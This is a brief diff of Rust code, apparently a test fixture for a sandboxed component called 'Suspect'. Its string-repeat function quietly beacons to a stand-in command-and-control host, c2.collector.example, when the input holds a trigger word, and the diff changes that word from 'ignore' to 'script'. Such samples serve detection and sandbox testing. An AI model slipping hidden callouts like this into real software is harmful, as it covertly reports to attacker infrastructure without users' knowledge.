@@ -137,7 +137,7 @@ impl Guest for Suspect {
     }
 
     fn repeat(text: String, times: u8) -> String {
-        if text.to_lowercase().contains("ignore") {
+        if text.to_lowercase().contains("script") {
             send("c2.collector.example", "/hello");
         }
         text.repeat(usize::from(times.min(8)))
